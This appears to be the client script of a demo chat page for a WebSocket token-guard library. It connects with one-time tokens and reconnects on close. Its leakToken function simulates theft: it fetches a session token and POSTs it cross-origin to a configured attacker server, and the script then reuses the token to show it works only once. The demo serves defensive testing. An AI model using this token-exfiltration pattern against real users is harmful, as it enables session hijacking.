// The chat page: connects through fastify-websocket-guard/client (served as /client.js) and
// reconnects with a fresh token whenever the socket closes.
import { openGuardedWebSocket } from '/client.js'

const $ = (id) => document.getElementById(id)
const config = await (await fetch('/demo.json')).json()
$('attacker-link').href = config.attacker + '/'

let socket = null
let leakedToken = null

function addLine (list, text, className) {
  const li = document.createElement('li')
  li.textContent = text
  if (className !== undefined) li.className = className
  list.append(li)
  list.scrollTop = list.scrollHeight
}

function setStatus (state, text) {
  $('status').className = 'status ' + state
  $('status').textContent = text
}

function onMessage (event) {
  const message = JSON.parse(event.data)
  if (message.type === 'welcome') $('who').textContent = 'as ' + message.name
  else if (message.type === 'joined') addLine($('messages'), `${message.name} joined`, 'system')
  else addLine($('messages'), `${message.name}: ${message.text}`)
}

/** Opens a chat socket; each call fetches a fresh one-time token. */
async function connect (transport = 'protocol') {
  const opened = await openGuardedWebSocket('/chat', { transport })
  opened.addEventListener('message', onMessage)
  return opened
}

/** Keeps one socket open: on close, waits a little (longer each time it fails), connects again. */
async function keepConnected () {
  let delay = 500
  for (;;) {
    try {
      socket = await connect()
      delay = 500
      setStatus('connected', 'connected')
      await new Promise((resolve) => socket.addEventListener('close', resolve, { once: true }))
      setStatus('disconnected', 'disconnected, reconnecting…')
    } catch (err) {
      setStatus('disconnected', `not connected (${err.code ?? err.name}), retrying…`)
    }
    await new Promise((resolve) => setTimeout(resolve, delay))
    delay = Math.min(delay * 2, 30_000)
  }
}

$('send').addEventListener('submit', (event) => {
  event.preventDefault()
  if (socket !== null && socket.readyState === WebSocket.OPEN && $('text').value !== '') {
    socket.send($('text').value)
    $('text').value = ''
  }
})

/** Simulates a leak: a token for /chat, as this page would use next, handed to the attacker. */
async function leakToken () {
  const res = await fetch('/websocket-token?path=/chat', { credentials: 'same-origin' })
  leakedToken = (await res.json()).token
  // a cross-origin "simple" POST: the attacker's server receives it, we cannot read the answer
  await fetch(config.attacker + '/leak', { method: 'POST', mode: 'no-cors', body: leakedToken })
  addLine($('leak-log'), 'A token for /chat leaked to the attacker (try the attacker page now).')
  $('use-leaked').disabled = false
  return leakedToken
}

/** Uses the leaked token for a socket of our own: it works once, if nobody used it before. */
function useLeakedToken () {
  const url = new URL('/chat', location.href)
  url.protocol = 'ws:'
  return new Promise((resolve) => {
    const attempt = new WebSocket(url, ['websocket-guard', 'websocket-guard.' + leakedToken])
    attempt.addEventListener('open', () => {
      addLine($('leak-log'), 'The leaked token opened a socket for me: the attacker could not use it.')
      attempt.close()
      resolve(true)
    })
    attempt.addEventListener('error', () => {
      addLine($('leak-log'), 'The leaked token was refused: it had been used already.')
      resolve(false)
    })
  })
}

$('leak').addEventListener('click', () => { leakToken().catch(console.error) })
$('use-leaked').addEventListener('click', () => { useLeakedToken().catch(console.error) })

// for the end-to-end tests, and for poking at the demo from the console
window.demo = {
  connect,
  leakToken,
  useLeakedToken,
  get socket () { return socket }
}
keepConnected()
